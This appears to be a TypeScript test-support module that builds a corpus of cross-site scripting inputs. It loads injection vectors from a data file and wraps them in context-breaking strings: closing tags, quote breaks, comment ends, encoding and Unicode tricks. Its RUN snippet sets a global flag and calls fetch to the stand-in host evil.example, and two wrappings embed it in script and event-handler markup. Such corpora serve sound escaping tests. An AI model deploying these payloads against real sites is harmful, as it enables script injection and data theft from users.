// Texts that would run a script or call home if any page took them for markup, a style, an address or a script: known
// vectors in every wrapping that could end the context around them. Each sets `hit` or asks evil.example.

import { rowsOf } from '../support/rows.ts';

const RUN = 'globalThis.hit=1;fetch(`//evil.example/x`)';
const VECTORS = rowsOf<string>('./payloads.jsonl', import.meta.url);
const WRAPPINGS: readonly ((vector: string) => string)[] = [
  (v) => v,
  (v) => `</script>${v}`,
  (v) => `</title></style></textarea></noscript>${v}`,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `-->${v}<!--`,
  (v) => `]]>${v}`,
  (v) => `\\"${v}`,
  (v) => `\u2028${v}\u2029`,
  (v) => `\u202e${v}\u202c`,
  (v) => `${v.toUpperCase()}`,
  (v) => v.replaceAll('<', '\uff1c<'),
  (v) => `&lt;${v}&gt;`,
  (v) => `#/run/x?f=${v}`,
  (v) => `${'A'.repeat(500)}${v}`,
  (v) => v.replaceAll('<', '<\u200b').replaceAll('<\u200b', '<'),
  (v) => `\ud800${v}`,
  (v) => `__proto__ constructor ${v}`,
  (v) => `</pre></span></a>${v}`,
  (v) => `$&$'$\`${v}`,
  (v) => `</SCRIPT ><script\t>${RUN}</script >${v}`,
  (v) => `<x contenteditable onblur="${RUN}">${v}`,
  (v) => `1;${v};//`,
  (v) => `*/${v}/*`,
  (v) => `%3Cscript%3E${v}`,
  (v) => `<a href="${v}">`,
  (v) => `${v}\n${v}`,
];

/** With every commit each vector in three wrappings, and each wrapping around six vectors; more than 1,000 on demand. */
const EVERY = process.env['EVERTURN_TESTS'] === 'all' ? 1 : 9;
export const PAYLOADS: readonly string[] = [
  ...new Set(WRAPPINGS.flatMap((wrap, w) => VECTORS.filter((_, v) => (v + w) % EVERY === 0).map(wrap))),
];
